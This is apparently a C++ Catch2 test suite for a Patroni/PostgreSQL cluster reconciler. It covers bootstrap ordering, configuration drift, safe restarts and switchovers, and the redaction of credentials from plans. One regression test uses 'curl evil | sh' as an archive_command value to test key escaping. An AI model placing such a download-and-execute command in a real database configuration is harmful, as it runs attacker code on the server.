#include <catch2/catch.hpp>

#include "core_fixtures.hpp"
#include "reconciler/plan.hpp"
#include "reconciler/plan_output.hpp"

#include <sstream>

using namespace pgc;
using namespace pgc::reconciler;
using manifests::ReplicationMode;

namespace {

manifests::ManifestSet hosts_for(const DesiredCluster& c) {
  manifests::ManifestSet set;
  for (const auto& m : c.members) {
    manifests::Host h;
    h.metadata.name = m.host;
    h.address = m.address;
    set.hosts.push_back(h);
  }
  return set;
}

// Hosts with packages installed; config files written exactly as desired when `configured`.
ObservedState observed_hosts(const DesiredCluster& c, bool configured, const ClusterSecrets& secrets) {
  ObservedState o;
  for (const auto& m : c.members) {
    ObservedHost h;
    h.name = m.host;
    h.reachable = true;
    h.os = testing::debian12();
    h.has_apt = true;
    h.apt_lists = true;
    for (const auto& p : c.packages) h.packages[p] = true;
    if (configured) {
      h.files[m.config_path] = config_text(m, secrets);
      h.services[m.service] = "active";
      h.service_enabled[m.service] = "enabled";
      h.data_dirs["/var/lib/postgresql/15/c"] = true;
    } else {
      h.files[m.config_path] = std::nullopt;
      h.services[m.service] = "inactive";
      h.service_enabled[m.service] = "disabled";
      h.data_dirs["/var/lib/postgresql/15/c"] = false;
    }
    o.hosts[m.host] = h;
  }
  return o;
}

std::vector<std::string> step_names(const ClusterPlan& p) {
  std::vector<std::string> out;
  for (const auto& c : p.changes) out.push_back(to_string(c.step));
  return out;
}

}  // namespace

TEST_CASE("plan: bootstrap writes configs, starts the first member alone, then the rest, then patches the DCS") {
  auto c = testing::make_cluster(3, ReplicationMode::strict_sync, 2);
  auto secrets = testing::fixed_secrets();
  DesiredState desired{{c}};
  auto observed = observed_hosts(c, false, secrets);
  auto plan = diff(hosts_for(c), desired, observed, {{"c", secrets}});
  REQUIRE(plan.clusters.size() == 1);
  const auto& cp = plan.clusters[0];
  CHECK(cp.bootstrap);
  CHECK(step_names(cp) == std::vector<std::string>{"write-config", "write-config", "write-config",
                                       "start", "start", "start", "patch-dcs"});
  CHECK(std::get<steps::StartMember>(cp.changes[3].step).wait == steps::StartWait::leader);
  CHECK(cp.changes[3].member == "c-0");
  // The replicas start together; the last start waits until both stream.
  CHECK(std::get<steps::StartMember>(cp.changes[4].step).wait == steps::StartWait::none);
  CHECK(std::get<steps::StartMember>(cp.changes[5].step).wait == steps::StartWait::streaming);
  CHECK(std::get<steps::StartMember>(cp.changes[5].step).wait_members == std::vector<std::string>{"c-1", "c-2"});
  CHECK(std::get<steps::PatchDcs>(cp.changes[6].step).patch["synchronous_mode_strict"] == true);
  REQUIRE(cp.impact);
  CHECK(cp.impact->statements[0] ==
        "strict-sync: writes block if c-1 and c-2 are both lost (Patroni lowers the sync count to the replicas left "
        "and blocks only when none is)");
}

TEST_CASE("plan: a converged cluster has no changes") {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  observed.clusters["c"] = testing::healthy(c, 1);
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK_FALSE(plan.has_changes());
  CHECK_FALSE(plan.has_errors());
  CHECK_FALSE(plan.clusters[0].impact);
}

TEST_CASE("plan: DCS drift (patronictl edit-config) is one PATCH of the owned keys, never others") {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 2);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 2);
  oc.dcs_config["synchronous_node_count"] = 1;
  oc.dcs_config["pause"] = true;                 // not ours: must not appear in the patch
  oc.dcs_config["maximum_lag_on_failover"] = 5;  // not ours
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  REQUIRE(plan.clusters[0].changes.size() == 1);
  const auto& change = plan.clusters[0].changes[0];
  CHECK(is<steps::PatchDcs>(change.step));
  // The mode keys travel together (docs/replication-semantics.md §2); pause and others never do.
  CHECK(std::get<steps::PatchDcs>(change.step).patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                                  {"synchronous_node_count", 2}});
  CHECK(change.reason == "drift in synchronous_node_count");
  REQUIRE(change.fields.size() == 1);
  CHECK(change.fields[0].before == "1");
  CHECK(change.fields[0].after == "2");
}

TEST_CASE("plan: Patroni storing 10 as \"10\" or on as true is not drift") {
  CHECK(same_setting(nlohmann::json(10), nlohmann::json("10")));
  CHECK(same_setting(nlohmann::json(true), nlohmann::json("on")));
  CHECK_FALSE(same_setting(nlohmann::json(1), nlohmann::json(2)));
  CHECK_FALSE(same_setting(nlohmann::json(), nlohmann::json(false)));
}

TEST_CASE("plan: an edited config file is drift, shown by key with secrets redacted, then reloaded") {
  auto c = testing::make_cluster(2, ReplicationMode::async);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  observed.clusters["c"] = testing::healthy(c, 0);
  auto edited = c.members[1];
  edited.patroni_config["tags"]["nofailover"] = true;
  edited.patroni_config["postgresql"]["authentication"]["superuser"]["password"] = "typed-by-hand";
  observed.hosts["h2"].files[c.members[1].config_path] = config_text(edited, secrets);
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  const auto& cp = plan.clusters[0];
  REQUIRE(step_names(cp) == std::vector<std::string>{"write-config", "reload"});
  CHECK(cp.changes[0].reason ==
        "drift in postgresql.authentication.superuser.password, tags.nofailover");
  std::ostringstream text;
  print_plan(plan, text);
  CHECK(text.str().find("typed-by-hand") == std::string::npos);
  CHECK(text.str().find("SUPERsecret1") == std::string::npos);
  CHECK(text.str().find("tags.nofailover: true → false") != std::string::npos);
  CHECK(plan_to_json(plan).dump().find("SUPERsecret1") == std::string::npos);
}

TEST_CASE("plan: a stopped service is drift and is started") {
  auto c = testing::make_cluster(2, ReplicationMode::async);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  observed.hosts["h2"].services[c.members[1].service] = "inactive";
  auto oc = testing::healthy(c, 0);
  oc.members.pop_back();
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  REQUIRE(step_names(plan.clusters[0]) == std::vector<std::string>{"start"});
  CHECK(plan.clusters[0].changes[0].reason == "service inactive");
  CHECK(std::get<steps::StartMember>(plan.clusters[0].changes[0].step).wait == steps::StartWait::streaming);
}

TEST_CASE("plan: scale down switches over away from a removed leader, then stops it") {
  auto four = testing::make_cluster(4, ReplicationMode::sync_all);
  auto three = testing::make_cluster(3, ReplicationMode::sync_all);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(three, true, secrets);
  auto oc = testing::healthy(four, 3);
  oc.dcs_config["synchronous_node_count"] = 3;
  std::swap(oc.members[0].role, oc.members[3].role);  // c-3 leads
  observed.clusters["c"] = oc;
  auto set = hosts_for(four);
  auto plan = diff(set, DesiredState{{three}}, observed, {{"c", secrets}});
  const auto& cp = plan.clusters[0];
  // Lower the count first, then switch over, then stop the removed member.
  REQUIRE(step_names(cp) == std::vector<std::string>{"patch-dcs", "switchover", "stop"});
  CHECK(std::get<steps::PatchDcs>(cp.changes[0].step).patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                                        {"synchronous_node_count", 2}});
  CHECK(std::get<steps::Switchover>(cp.changes[1].step).leader == "c-3");
  CHECK(cp.changes[2].member == "c-3");
  CHECK(cp.changes[2].host == "h4");
}

TEST_CASE("plan: pending restarts restart replicas first, switch over, then restart the old leader") {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 1);
  for (auto& m : oc.members) m.pending_restart = true;
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  const auto& cp = plan.clusters[0];
  REQUIRE(step_names(cp) == std::vector<std::string>{"restart", "restart", "switchover",
                                         "restart"});
  CHECK(std::get<steps::Switchover>(cp.changes[2].step).leader == "c-0");
  CHECK(std::get<steps::Switchover>(cp.changes[2].step).candidate == "c-1");
  CHECK(cp.changes[3].member == "c-0");
}

namespace {
// A sync cluster (count 1) whose DCS still says strict while the leader holds '*'.
Plan plan_leaving_strict_with_star() {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 1);
  oc.dcs_config["synchronous_mode_strict"] = true;
  oc.postgres["c-0"].synchronous_standby_names = "*";
  observed.clusters["c"] = oc;
  return diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
}
}  // namespace

TEST_CASE("plan: leaving strict while the leader holds '*' releases synchronous_mode first") {
  auto plan = plan_leaving_strict_with_star();
  REQUIRE(plan.clusters[0].changes.size() == 1);
  CHECK(std::get<steps::PatchDcs>(plan.clusters[0].changes[0].step).release_first);
}

TEST_CASE("plan: regression: after releasing '*' the patch puts synchronous_mode back (mode keys go together)") {
  // Seen on the lab: strict-sync → sync released '*' with synchronous_mode false, then patched only
  // synchronous_mode_strict, leaving the cluster asynchronous.
  auto plan = plan_leaving_strict_with_star();
  REQUIRE(plan.clusters[0].changes.size() == 1);
  const auto& patch = std::get<steps::PatchDcs>(plan.clusters[0].changes[0].step).patch;
  CHECK(patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                {"synchronous_node_count", 1}});
  // What is shown stays the one key that differs.
  REQUIRE(plan.clusters[0].changes[0].fields.size() == 1);
  CHECK(plan.clusters[0].changes[0].fields[0].key == "synchronous_mode_strict");
}

TEST_CASE("plan: standby names nobody streams in non-strict sync are released (Patroni 3.0.2 keeps them)") {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 0);
  oc.members.resize(1);  // both replicas gone
  oc.postgres["c-0"].sync_states.clear();
  oc.postgres["c-0"].synchronous_standby_names = "\"c-2\"";
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  const auto& cp = plan.clusters[0];
  auto dcs = std::find_if(cp.changes.begin(), cp.changes.end(), [](const auto& ch) { return is<steps::PatchDcs>(ch.step); });
  REQUIRE(dcs != cp.changes.end());
  CHECK(std::get<steps::PatchDcs>(dcs->step).release_first);
  CHECK(std::get<steps::PatchDcs>(dcs->step).release_stale == std::vector<std::string>{"c-2"});
  // The patch puts the declared mode back after the release; the DCS keys themselves match.
  CHECK(std::get<steps::PatchDcs>(dcs->step).patch == nlohmann::json{{"synchronous_mode", true}, {"synchronous_mode_strict", false},
                                                {"synchronous_node_count", 1}});
  REQUIRE(dcs->fields.size() == 1);
  CHECK(dcs->fields[0].key == "synchronous_standby_names (leader)");
  CHECK(dcs->fields[0].before == "\"c-2\"");
  CHECK(dcs->reason.find("commits wait on c-2") == 0);
}

TEST_CASE("plan: the same standby names in strict sync are not released (strict blocks by design)") {
  auto c = testing::make_cluster(3, ReplicationMode::strict_sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 0);
  oc.members.resize(1);
  oc.postgres["c-0"].sync_states.clear();
  oc.postgres["c-0"].synchronous_standby_names = "\"c-2\"";
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  for (const auto& ch : plan.clusters[0].changes) CHECK(!is<steps::PatchDcs>(ch.step));
}

TEST_CASE("plan: an unreachable host is an error for its member only") {
  auto c = testing::make_cluster(3, ReplicationMode::async);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, false, secrets);
  observed.hosts["h2"] = ObservedHost{};
  observed.hosts["h2"].name = "h2";
  observed.hosts["h2"].error = "host h2 (10.0.0.12): ssh: host key mismatch";
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK(plan.host_errors == std::vector<std::string>{"host h2 (10.0.0.12): ssh: host key mismatch"});
  CHECK(plan.clusters[0].errors ==
        std::vector<std::string>{"member c-1 on host h2: host h2 (10.0.0.12): ssh: host key mismatch"});
  std::size_t writes = 0;
  for (const auto& ch : plan.clusters[0].changes) writes += is<steps::WriteConfig>(ch.step);
  CHECK(writes == 2);
}

TEST_CASE("plan: missing packages are installed per host before anything else") {
  auto c = testing::make_cluster(1, ReplicationMode::async);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, false, secrets);
  observed.hosts["h1"].packages["patroni"] = false;
  observed.hosts["h1"].candidates["patroni"] = "3.0.2-1";
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  REQUIRE(plan.host_changes.size() == 1);
  CHECK(std::get<steps::InstallPackages>(plan.host_changes[0].step).packages == std::vector<std::string>{"patroni"});
}

TEST_CASE("impact: traps of the reference are warned about") {
  SECTION("count capped by the replicas") {
    auto c = testing::make_cluster(3, ReplicationMode::sync, 3);
    auto impact = analyse_impact(c, testing::healthy(c, 2));
    CHECK(impact.effective_sync_declared == 2);
    CHECK(impact.warnings.at(0) ==
          "synchronous_node_count 3 exceeds the 2 replica(s) that can be sync standbys: Patroni keeps 2");
  }
  SECTION("strict with no streaming replica") {
    auto c = testing::make_cluster(2, ReplicationMode::strict_sync, 1);
    auto oc = testing::healthy(c, 0);
    oc.members[1].state = "stopped";
    auto impact = analyse_impact(c, oc);
    CHECK(impact.effective_sync_now == 0);
    CHECK(std::find(impact.warnings.begin(), impact.warnings.end(),
                    "strict mode with no streaming replica: every write blocks until one streams (pgconverge enables "
                    "strict only after a replica streams)") != impact.warnings.end());
  }
  SECTION("only readonly/none members as sync standbys") {
    auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
    c.members[1].tags.nofailover = true;
    c.members[2].tags.nofailover = true;
    auto impact = analyse_impact(c, testing::healthy(c, 1));
    CHECK(impact.leader_candidates == std::vector<std::string>{"c-0"});
    CHECK(impact.warnings.back() ==
          "only readonly/none members (c-1 and c-2) can be sync standbys: no automatic failover is possible");
  }
  SECTION("async never waits") {
    auto c = testing::make_cluster(3, ReplicationMode::async);
    auto impact = analyse_impact(c, testing::healthy(c, 0));
    CHECK(impact.desired_sync == 0);
    CHECK(impact.statements.at(0).starts_with("async: commits never wait"));
  }
  SECTION("non-strict sync stalls until the next HA loop") {
    auto c = testing::make_cluster(3, ReplicationMode::sync_all);
    auto impact = analyse_impact(c, testing::healthy(c, 2));
    CHECK(impact.statements.at(0) ==
          "sync-all: each commit waits for 2 sync standby(s); if c-1 and c-2 are both lost, commits stall until "
          "Patroni's next HA loop (up to ttl 30s), then continue without synchronous replication");
  }
}

namespace {
// c (strict-sync, 3 members, count 1) with every member pending a restart and c-2 lost: its host
// unreachable and gone from Patroni. c-1 is the only streaming replica.
struct StrictWithMemberDown {
  DesiredCluster c = testing::make_cluster(3, ReplicationMode::strict_sync, 1);
  ClusterSecrets secrets = testing::fixed_secrets();
  ObservedState observed;
  StrictWithMemberDown() {
    observed = observed_hosts(c, true, secrets);
    observed.hosts["h3"] = ObservedHost{};
    observed.hosts["h3"].name = "h3";
    observed.hosts["h3"].error = "host h3 (10.0.0.13): ssh: connect: timed out";
    auto oc = testing::healthy(c, 1);
    oc.members.pop_back();
    for (auto& m : oc.members) m.pending_restart = true;
    observed.clusters["c"] = oc;
  }
  Plan plan(bool allow) { return diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}}, PlanOptions{allow}); }
};

bool has_error_with(const ClusterPlan& cp, const std::string& needle) {
  return std::any_of(cp.errors.begin(), cp.errors.end(),
                     [&](const std::string& e) { return e.find(needle) != std::string::npos; });
}
}  // namespace

TEST_CASE("plan: strict, a member down: no restart that leaves the cluster without a sync standby") {
  StrictWithMemberDown s;
  auto plan = s.plan(false);
  const auto& cp = plan.clusters[0];
  CHECK(step_names(cp).empty());
  CHECK(has_error_with(cp, "restart of c-1 held back: while c-1 is down, strict cluster c has no other streaming "
                           "replica to be its sync standby and every write blocks; bring the other members back "
                           "first, or pass --allow-write-outage to do it anyway"));
  CHECK(has_error_with(cp, "restart of leader c-0 (after a switchover to c-1) held back"));
}

TEST_CASE("plan: strict, a member down: --allow-write-outage restarts anyway, replicas first") {
  StrictWithMemberDown s;
  auto plan = s.plan(true);
  const auto& cp = plan.clusters[0];
  CHECK(step_names(cp) == std::vector<std::string>{"restart", "switchover", "restart"});
  CHECK_FALSE(has_error_with(cp, "held back"));
}

TEST_CASE("plan: strict with two streaming replicas restarts as usual") {
  auto c = testing::make_cluster(3, ReplicationMode::strict_sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 1);
  for (auto& m : oc.members) m.pending_restart = true;
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK(step_names(plan.clusters[0]) == std::vector<std::string>{"restart", "restart", "switchover",
                                                     "restart"});
  CHECK(plan.clusters[0].errors.empty());
}

TEST_CASE("plan: the leader is not restarted while no replica streams to take over (no writable primary)") {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 1);
  oc.members[1].state = "stopped";
  oc.members[2].state = "stopped";
  oc.members[0].pending_restart = true;
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK(step_names(plan.clusters[0]).empty());
  CHECK(has_error_with(plan.clusters[0], "restart of leader c-0 held back: no replica streams to switch over to, so "
                                         "cluster c would have no writable primary until it is back"));
}

TEST_CASE("plan: a single-member cluster restarts its leader (there is nothing to switch over to)") {
  auto c = testing::make_cluster(1, ReplicationMode::async);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 0);
  oc.members[0].pending_restart = true;
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK(step_names(plan.clusters[0]) == std::vector<std::string>{"restart"});
  CHECK(plan.clusters[0].errors.empty());
}

TEST_CASE("plan: strict scale down never stops the last streaming replica without --allow-write-outage") {
  // Declared 2 (c-0, c-1), observed 3: c-1 is down (host lost), c-2 (no longer declared) is the
  // only sync standby.
  auto three = testing::make_cluster(3, ReplicationMode::strict_sync, 1);
  auto two = testing::make_cluster(2, ReplicationMode::strict_sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(two, true, secrets);
  observed.hosts["h2"] = ObservedHost{};  // c-1's host is lost
  observed.hosts["h2"].name = "h2";
  observed.hosts["h2"].error = "host h2 (10.0.0.12): ssh: connect: timed out";
  auto oc = testing::healthy(three, 1);
  oc.members[1].state = "stopped";
  oc.members[1].role = "replica";
  oc.members[2].role = "sync_standby";
  observed.clusters["c"] = oc;
  auto held = diff(hosts_for(three), DesiredState{{two}}, observed, {{"c", secrets}});
  CHECK(step_names(held.clusters[0]).empty());
  CHECK(has_error_with(held.clusters[0], "stop of c-2 (no longer declared) held back: c-2 is the last streaming "
                                         "replica of strict cluster c: without a sync standby every write blocks"));
  auto allowed = diff(hosts_for(three), DesiredState{{two}}, observed, {{"c", secrets}}, PlanOptions{true});
  CHECK(step_names(allowed.clusters[0]) == std::vector<std::string>{"stop"});
  // Not strict: the same stop is planned.
  auto sync_two = testing::make_cluster(2, ReplicationMode::sync, 1);
  auto sync_plan = diff(hosts_for(three), DesiredState{{sync_two}}, observed, {{"c", secrets}});
  auto sync_steps = step_names(sync_plan.clusters[0]);
  CHECK(std::count(sync_steps.begin(), sync_steps.end(), "stop") == 1);
}

TEST_CASE("plan: members running but Patroni unobservable (DCS down): nothing is planned, the reason is named") {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  ObservedCluster oc;
  oc.name = "c";
  oc.error = "patroni 10.0.0.11:8008: GET /cluster: timed out after 3s";
  oc.dcs_error = "DCS etcd \"dcs\" (10.0.0.2:2379) unreachable: Patroni on 10.0.0.11 answers GET /patroni but " +
                 oc.error;
  observed.clusters["c"] = oc;
  // Its config drifted too: still nothing, since nothing could be verified.
  observed.hosts["h2"].files[c.members[1].config_path] = "scope: c\n";
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK(plan.clusters[0].changes.empty());
  CHECK_FALSE(plan.clusters[0].bootstrap);
  CHECK(has_error_with(plan.clusters[0], "cluster c: patroni@15-c runs on h1 but Patroni cannot be observed (DCS etcd "
                                         "\"dcs\" (10.0.0.2:2379) unreachable"));
  CHECK(has_error_with(plan.clusters[0], "nothing is applied to this cluster until it answers"));
}

TEST_CASE("plan: once the cluster exists, a patroni.yml differing only in bootstrap.dcs is not rewritten") {
  auto c = testing::make_cluster(3, ReplicationMode::sync, 1);
  for (auto& m : c.members) m.patroni_config["bootstrap"] = {{"dcs", {{"synchronous_mode", true}}}};
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto old = c.members[1];
  old.patroni_config["bootstrap"]["dcs"]["synchronous_mode"] = false;  // written when the mode was async
  observed.hosts["h2"].files[c.members[1].config_path] = config_text(old, secrets);
  observed.clusters["c"] = testing::healthy(c, 1);
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK(step_names(plan.clusters[0]).empty());
  // With a real difference besides it, the file is written (bootstrap included) and reloaded.
  old.patroni_config["tags"]["noloadbalance"] = true;
  observed.hosts["h2"].files[c.members[1].config_path] = config_text(old, secrets);
  plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  CHECK(step_names(plan.clusters[0]) == std::vector<std::string>{"write-config", "reload"});
}

TEST_CASE("plan: strict, a replica back but not streaming yet: the restart waits for it instead of being held back") {
  StrictWithMemberDown s;
  s.observed.hosts["h3"] = observed_hosts(s.c, true, s.secrets).hosts["h3"];  // c-2's host answers, its service runs
  auto plan = s.plan(false);
  const auto& cp = plan.clusters[0];
  REQUIRE(step_names(cp) == std::vector<std::string>{"restart", "switchover", "restart"});
  CHECK(cp.errors.empty());
  CHECK(std::get<steps::RestartMember>(cp.changes[0].step).await_streaming_except == std::vector<std::string>{"c-1"});
  CHECK(std::get<steps::RestartMember>(cp.changes[2].step).await_streaming_except == std::vector<std::string>{"c-0", "c-1"});
}

TEST_CASE("plan: regression: a replica Patroni still lists as streaming but whose host is lost does not count") {
  // Seen on the lab: right after a cut, Patroni lists the replica until its key expires (ttl), and
  // the strict check let the last reachable sync standby be stopped.
  StrictWithMemberDown s;
  auto oc = testing::healthy(s.c, 1);  // c-2 listed as streaming again, its host still unreachable
  for (auto& m : oc.members) m.pending_restart = true;
  s.observed.clusters["c"] = oc;
  auto plan = s.plan(false);
  CHECK(step_names(plan.clusters[0]).empty());
  CHECK(has_error_with(plan.clusters[0], "restart of c-1 held back"));
}

TEST_CASE("plan: regression: strict scale down of the leader never switches over to a lost sync standby") {
  // Seen on the lab: c-2 leads and is no longer declared, c-1 (Patroni still lists it as the sync
  // standby) was just cut off: the switchover went to c-0 and stopping c-2 left it without one.
  auto three = testing::make_cluster(3, ReplicationMode::strict_sync, 1);
  auto two = testing::make_cluster(2, ReplicationMode::strict_sync, 1);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(two, true, secrets);
  observed.hosts["h2"] = ObservedHost{};
  observed.hosts["h2"].name = "h2";
  observed.hosts["h2"].error = "host h2 (10.0.0.12): ssh: connect: timed out";
  observed.hosts["h3"] = observed_hosts(three, true, secrets).hosts["h3"];
  auto oc = testing::healthy(three, 1);
  std::swap(oc.members[0].role, oc.members[2].role);  // c-2 leads, c-1 is sync, c-0 a replica
  std::swap(oc.members[0].state, oc.members[2].state);
  observed.clusters["c"] = oc;
  auto plan = diff(hosts_for(three), DesiredState{{two}}, observed, {{"c", secrets}});
  CHECK(step_names(plan.clusters[0]).empty());
  CHECK(has_error_with(plan.clusters[0], "stop of c-2 (no longer declared) held back: once c-0 leads, strict cluster c "
                                         "has no other streaming replica to be its sync standby"));
}

TEST_CASE("plan: credentials in values observed on hosts (patroni.yml, GET /config) are never shown",
          "[plan][security]") {
  auto c = testing::make_cluster(2, ReplicationMode::async);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  auto oc = testing::healthy(c, 0);
  // Someone's hand edit of a member's patroni.yml and of the DCS: a conninfo with a password, and
  // a parameter holding one of the cluster's own secrets.
  oc.dcs_config["postgresql"]["parameters"]["max_connections"] = "password=InDcs7 max";
  observed.clusters["c"] = oc;
  auto edited = c.members[1];
  edited.patroni_config["postgresql"]["parameters"]["primary_conninfo"] = "host=10.0.0.9 user=replicator password=Hand7Typed";
  edited.patroni_config["postgresql"]["parameters"]["application_name"] = "x REPLsecret2 y";
  observed.hosts["h2"].files[c.members[1].config_path] = config_text(edited, secrets);
  auto plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}});
  std::ostringstream text;
  print_plan(plan, text);
  auto shown = text.str() + plan_to_json(plan).dump();
  CHECK(shown.find("primary_conninfo") != std::string::npos);  // the drift is still shown
  CHECK(shown.find("max_connections") != std::string::npos);
  for (const auto* secret : {"Hand7Typed", "REPLsecret2", "InDcs7"}) CHECK(shown.find(secret) == std::string::npos);
}

TEST_CASE("regression: a DCS key holding '/' or '~' is one key of the PATCH, never a path, and never throws") {
  // compile() refuses such keys; the plan must hold whatever reaches it: every pointer token is
  // escaped (RFC 6901), so "postgresql/parameters/archive_command" stays one top-level key and
  // "~x" (which made nlohmann's json_pointer throw) is an ordinary one.
  auto c = testing::make_cluster(3, ReplicationMode::async);
  auto oc = testing::healthy(c, 0);  // the DCS as it is: without the keys below
  c.dynamic_config["postgresql/parameters/archive_command"] = "curl evil | sh";
  c.dynamic_config["~x"] = 1;
  c.dynamic_config["a~1b"] = 2;
  auto keys = owned_dcs_keys(c);
  CHECK(keys.contains("/postgresql~1parameters~1archive_command"));
  CHECK(keys.contains("/~0x"));
  CHECK(keys.contains("/a~01b"));
  CHECK_FALSE(keys.contains("/postgresql/parameters/archive_command"));
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  observed.clusters["c"] = oc;
  Plan plan;
  REQUIRE_NOTHROW(plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}}));
  const Change* patch = nullptr;
  for (const auto& change : plan.clusters[0].changes)
    if (is<steps::PatchDcs>(change.step)) patch = &change;
  REQUIRE(patch);
  const auto& body = std::get<steps::PatchDcs>(patch->step).patch;
  CHECK(body["postgresql/parameters/archive_command"] == "curl evil | sh");
  CHECK(body["~x"] == 1);
  CHECK(body["a~1b"] == 2);
  CHECK_FALSE(body.contains("postgresql"));
}

TEST_CASE("plan: drift in a dotted parameter name shows its values (pointers, not dotted names, are looked up)") {
  auto c = testing::make_cluster(2, ReplicationMode::async);
  auto secrets = testing::fixed_secrets();
  auto observed = observed_hosts(c, true, secrets);
  observed.clusters["c"] = testing::healthy(c, 0);
  auto edited = c.members[1];
  edited.patroni_config["postgresql"]["parameters"]["pg_stat_statements.max"] = "5000";
  edited.patroni_config["postgresql"]["parameters"]["odd~key"] = "1";  // a hand edit on the host
  observed.hosts[edited.host].files[edited.config_path] = config_text(edited, secrets);
  Plan plan;
  REQUIRE_NOTHROW(plan = diff(hosts_for(c), DesiredState{{c}}, observed, {{"c", secrets}}));
  const Change* write = nullptr;
  for (const auto& change : plan.clusters[0].changes)
    if (is<steps::WriteConfig>(change.step)) write = &change;
  REQUIRE(write);
  std::map<std::string, std::string> before;
  for (const auto& f : write->fields) before[f.key] = f.before;
  CHECK(before.at("postgresql.parameters.pg_stat_statements.max") == "5000");
  CHECK(before.at("postgresql.parameters.odd~key") == "1");
}
